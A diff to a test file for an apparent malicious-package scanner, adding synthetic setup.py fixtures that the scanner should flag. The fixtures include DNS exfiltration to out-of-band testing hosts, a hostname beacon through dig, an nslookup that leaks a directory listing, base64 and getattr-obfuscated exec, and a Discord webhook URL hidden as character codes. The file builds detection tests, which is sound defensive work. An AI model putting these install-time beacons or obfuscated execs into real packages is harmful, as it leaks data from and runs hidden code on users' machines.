@@ -488,6 +488,49 @@ requests.post('https://example-name.ngrok-free.dev/k', json={'ok': 1})
     verdict: 'hold',
   },
   {
+    rule: 'exfiltration-endpoint',
+    name: 'install code resolves a name built under an out-of-band testing domain (no URL, a bare host)',
+    scan: () =>
+      sdist({
+        'setup.py': `import socket
+from setuptools import setup
+domain = 'a1b2c3d4e5.oastify.com'
+socket.getaddrinfo(f'installed.{domain}', 80)
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 3,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'beacons-system-info',
+    name: 'install code runs dig on a name built from the host name (a network tool as the sink)',
+    scan: () =>
+      sdist({
+        'setup.py': `import socket, subprocess
+from setuptools import setup
+host = socket.gethostname()
+subprocess.Popen(['dig', '+short', f'{host}.probe.example.com'])
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 4,
+    weight: 70,
+    verdict: 'hold',
+  },
+  {
+    rule: 'exfiltration-endpoint',
+    name: 'a shell command in setup.py resolves a listing under an out-of-band testing host',
+    scan: () => sdist({ 'setup.py': `import os\nos.system("nslookup $(ls).a1b2c3d4e5.oast.fun")\n` }),
+    file: 'setup.py',
+    line: 2,
+    weight: 90,
+    verdict: 'reject',
+  },
+  {
     rule: 'beacons-system-info',
     name: "install code sends the machine's fully qualified name",
     scan: () =>
@@ -1588,6 +1631,24 @@ setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
       'setup.py': `from setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n    def run(self):\n        from fernet import Fernet\n        exec(Fernet(b'c3ludGhldGljLWtleS1ub3QtYS1yZWFsLWtleS0xMjM=').decrypt(b'gAAAAABsynthetic-token'))\n        install.run(self)\nsetup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})\n`,
     })
     expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'setup.py', line: 6, weight: 100 })
+  })
+
+  it("resolves getattr with a literal name: getattr(__import__('base64'), 'b64decode') is the decoder", async () => {
+    const encoded = Buffer.from("import os\nos.system('id')\n").toString('base64')
+    const r = await sdist({ 'setup.py': `exec(compile(getattr(__import__('base64'), 'b64decode')('${encoded}'), '<x>', 'exec'))\n` })
+    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'setup.py', line: 1, weight: 100 })
+    // a name read from data is a lookup, not a known API
+    const lookup = await sdist({ 'setup.py': `import base64\nname = open('n.txt').read()\nexec(compile(getattr(base64, name)('${encoded}'), '<x>', 'exec'))\n` })
+    expect(scoring(lookup, 'decodes-and-executes')).toBeUndefined()
+  })
+
+  it('reads a list of character codes as the text it spells', async () => {
+    const codes = (text: string) => `[${[...text].map((c) => c.charCodeAt(0)).join(', ')}]`
+    const r = await sdist({ 'synthetic_pkg/__init__.py': `import requests\nHOOK = ${codes('https://discord.com/api/webhooks/123456/abcdef')}\nrequests.post(''.join(chr(c) for c in HOOK), json={'ok': 1})\n` })
+    expect(scoring(r, 'exfiltration-endpoint')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 2, message: expect.stringContaining('discord.com/api/webhooks') })
+    // numbers that are not all printable codes are data
+    const data = collectFacts((await sdistArtifact({ 'synthetic_pkg/__init__.py': `TABLE = [104, 116, 116, 112, 115, 58, 47, 300, 47]\n` })).artifact, pypiEcosystem)
+    expect(data.files.find((f) => f.path === 'synthetic_pkg/__init__.py')!.indicators).toEqual([])
   })
 
   it('decodes escape sequences in Python strings and reads parenthesised string constants as commands', async () => {
